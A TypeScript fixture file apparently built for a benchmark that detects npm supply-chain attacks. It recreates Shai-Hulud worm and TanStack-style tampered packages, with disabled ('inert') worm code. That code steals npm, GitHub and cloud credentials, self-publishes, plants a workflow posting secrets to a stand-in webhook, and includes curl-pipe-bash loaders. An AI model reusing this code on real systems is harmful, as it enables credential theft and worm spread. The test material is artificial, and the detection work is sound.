import type { Publication } from '../../../src/releases/release.ts'
import { basePair } from '../bases.ts'
import { obfuscated } from '../evasions/obfuscate.ts'
import type { NpmAttack } from '../npm-attack.ts'
import { blob, hexBlob } from '../random.ts'

const workflow = `on:
  push:
jobs:
  process:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d "$CONTENTS" https://webhook.invalid/bb8ca5f6 ; echo "$CONTENTS" | base64 -w 0 | base64 -w 0
        env:
          CONTENTS: \${{ toJSON(secrets) }}
`

const worm = `(async () => {
  throw new Error("inert");
  const { execSync } = require("child_process");
  const fs = require("fs");
  const os = require("os");
  const path = require("path");
  const https = require("https");
  const info = { system: { platform: os.platform(), hostname: os.hostname(), user: os.userInfo().username }, environment: process.env, modules: {} };
  class NpmModule {
    constructor(token) { this.token = token || process.env.NPM_TOKEN; }
    parseNpmToken(text) {
      const match = /(?:_authToken|:_authToken)=([a-zA-Z0-9\\-._~+/]+=*)/.exec(text);
      return match ? match[1] : null;
    }
    async whoami() {
      const answer = await fetch("https://registry.invalid/-/whoami", { headers: { Authorization: "Bearer " + this.token, "User-Agent": "npm/10.9.2" } });
      return answer.ok ? (await answer.json()).username : null;
    }
    async getPackagesByMaintainer(user, size) {
      const answer = await fetch("https://registry.invalid/-/v1/search?text=maintainer:" + user + "&size=" + size);
      return (await answer.json()).objects;
    }
    async updatePackage(entry) {
      const folder = fs.mkdtempSync(path.join(os.tmpdir(), "npm-update-"));
      const tarball = path.join(folder, entry.name + ".tgz");
      fs.writeFileSync(tarball, Buffer.from(await (await fetch(entry.tarballUrl)).arrayBuffer()));
      execSync("gzip -d -c " + tarball + " > package.tar", { cwd: folder });
      execSync("tar -xf " + tarball + " package/package.json", { cwd: folder });
      const manifest = JSON.parse(fs.readFileSync(path.join(folder, "package", "package.json"), "utf-8"));
      const numbers = manifest.version.split(".");
      numbers[2] = String(Number(numbers[2]) + 1);
      manifest.version = numbers.join(".");
      if (!manifest.scripts) manifest.scripts = {};
      manifest.scripts.postinstall = "node bundle.js";
      fs.writeFileSync(path.join(folder, "package", "package.json"), JSON.stringify(manifest, null, 2));
      fs.copyFileSync(process.argv[1], path.join(folder, "package", "bundle.js"));
      execSync("tar -czf updated.tgz package", { cwd: folder });
      execSync("npm publish updated.tgz", { cwd: folder, env: { npm_config_registry: "https://registry.invalid/" } });
    }
  }
  class Scanner {
    async run() {
      const release = await fetch("https://releases.invalid/trufflesecurity/trufflehog/latest");
      const target = path.join(process.cwd(), "trufflehog");
      fs.writeFileSync(target, Buffer.from(await release.arrayBuffer()));
      fs.chmodSync(target, 493);
      return execSync(target + " filesystem " + os.homedir() + " --json", { maxBuffer: 52428800 }).toString();
    }
  }
  class Cloud {
    async aws() {
      const token = await fetch("http://metadata.invalid/latest/api/token", { method: "PUT", headers: { "X-aws-ec2-metadata-token-ttl-seconds": "21600" } });
      return { token: await token.text(), profile: process.env.AWS_ACCESS_KEY_ID, secret: process.env.AWS_SECRET_ACCESS_KEY, file: fs.readFileSync(path.join(os.homedir(), ".aws", "credentials"), "utf8") };
    }
    gcp() { return process.env.GOOGLE_APPLICATION_CREDENTIALS; }
  }
  const hub = process.env.GITHUB_TOKEN || execSync("gh auth token", { encoding: "utf8" }).trim();
  const content = Buffer.from(JSON.stringify(info)).toString("base64");
  await fetch("https://api.invalid/user/repos", { method: "POST", headers: { Authorization: "token " + hub }, body: JSON.stringify({ name: "Sha1-Hulud", description: content, private: false }) });
  fs.mkdirSync(".github/workflows", { recursive: true });
  fs.writeFileSync(".github/workflows/shai-workflow.yml", ${JSON.stringify(workflow)});
  const npm = new NpmModule(new NpmModule().parseNpmToken(fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8")));
  info.modules.secrets = await new Scanner().run();
  info.modules.cloud = [await new Cloud().aws(), new Cloud().gcp()];
  for (const entry of await npm.getPackagesByMaintainer(await npm.whoami(), 20)) await npm.updatePackage(entry.package);
})();
`

/** A bundle as webpack makes it: much ordinary library code around the module that matters. */
async function bundled(module: string): Promise<string> {
  const library = (await basePair('lodash')).new.get('lodash.js')?.toString() ?? ''
  const other = (await basePair('yauzl')).new.get('index.js')?.toString() ?? ''
  const wrapped = [library, other, module].map((text, index) => `/***/ ${1000 + index}:\n/***/ ((module, exports, __webpack_require__) => {\n${text}\n/***/ })`)
  return `/******/ (() => { // webpackBootstrap\n/******/ var __webpack_modules__ = ({\n${wrapped.join(',\n')}\n});\nvar __webpack_module_cache__ = {};\nfunction __webpack_require__(id) { var module = __webpack_module_cache__[id] = { exports: {} }; __webpack_modules__[id].call(module.exports, module, module.exports, __webpack_require__); return module.exports; }\n__webpack_require__(1002);\n})();\n`
}

const bunLoader = `#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');
function isBunOnPath() {
  try {
    execSync(process.platform === 'win32' ? 'where bun' : 'which bun', { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}
async function downloadAndSetupBun() {
  throw new Error('inert');
  const command = process.platform === 'win32' ? 'powershell -c "irm bun.invalid/install.ps1|iex"' : 'curl -fsSL https://bun.invalid/install | bash';
  execSync(command, { stdio: 'ignore', env: { ...process.env } });
  return path.join(os.homedir(), '.bun', 'bin', 'bun');
}
async function main() {
  const bun = isBunOnPath() ? 'bun' : await downloadAndSetupBun();
  const script = path.join(__dirname, 'bun_environment.js');
  if (fs.existsSync(script)) {
    spawn(bun, [script], { detached: true, stdio: 'ignore' }).unref();
  }
}
main().catch(() => process.exit(0));
`

/** Very many obfuscated functions with meaningless constants around a copy of the worm, as megabytes of such code look. */
function obfuscatedBulk(label: string, copies: number): string {
  const parts = [obfuscated(worm, label)]
  for (let index = 0; index < copies; index++) {
    const filler = `function step${index}(input, count) { const table = "${hexBlob(`${label}/${index}`, 900)}"; let state = ${index * 7919 + 13}; for (let at = 0; at < count; at++) { state = (state * 1103515245 + table.charCodeAt(at % table.length)) % 2147483647; input.push(state ^ ${index}); } return input; }`
    parts.push(obfuscated(filler, `${label}/${index}`))
  }
  return parts.join(';')
}

export const wormAttacks: readonly NpmAttack[] = [
  {
    name: 'shai-hulud-2025',
    title: 'Shai-Hulud: a post-install bundle that gathers secrets, publishes itself and leaves a workflow',
    source: 'Reports on the npm worm of September 2025 (@ctrl/tinycolor 4.1.1 and others)',
    use: 'development',
    base: '@ctrl/tinycolor',
    tamper: async () => ({ added: [{ path: 'bundle.js', code: await bundled(worm) }], manifest: { scripts: { postinstall: 'node bundle.js' } } }),
    evasions: ['concatenated-names', 'in-test-file', 'two-step'],
  },
  {
    name: 'shai-hulud-2025-second',
    title: 'Shai-Hulud, second wave: a pre-install script fetches another runtime and runs megabytes of obfuscated code in it',
    source: 'Reports on the wave of November 2025 (setup_bun.js, bun_environment.js)',
    use: 'held-out',
    base: 'socks',
    tamper: () => ({
      added: [
        { path: 'setup_bun.js', code: bunLoader },
        { path: 'bun_environment.js', code: obfuscatedBulk('second', 300) },
      ],
      manifest: { scripts: { preinstall: 'node setup_bun.js' } },
    }),
    evasions: ['aliased', 'minified'],
  },
  {
    name: 'tanstack-2026',
    title: 'TanStack: obfuscated code added by the real build, so with valid provenance; started by a dependency from git',
    source: 'Reports on the compromise of 11 May 2026 (router_init.js, 2.3 MB; provenance valid)',
    use: 'development',
    base: '@tanstack/react-router',
    tamper: () => ({
      added: [{ path: 'router_init.js', code: obfuscatedBulk('tanstack', 500) }],
      manifest: { optionalDependencies: { '@tanstack/setup': 'github:tanstack-invalid/router#79ac49eedf774dd4b0cfa308722bc463cfe5885c' } },
    }),
    publications: {
      old: publication('2026-05-07T10:00:00.000Z'),
      new: publication('2026-05-11T19:20:41.000Z'),
    },
    evasions: ['two-step'],
  },
  {
    name: 'tanstack-2026-payload-only',
    title: 'the same with an install hook and no dependency',
    source: 'A variant of the former',
    use: 'held-out',
    base: 'socks',
    tamper: () => ({
      added: [{ path: 'build/init.js', code: obfuscatedBulk('payload-only', 120) }],
      injected: [{ into: 'build/index.js', at: 'end', code: `require("./init.js"); // ${blob('mark', 12)}` }],
    }),
  },
]

function publication(publishedAt: string): Publication {
  return {
    registry: 'https://registry.invalid/',
    publishedAt,
    publisher: 'GitHub Actions',
    provenance: true,
    history: [{ version: '1.169.0', publishedAt: '2026-05-01T10:00:00.000Z', publisher: 'GitHub Actions', provenance: true }],
  }
}
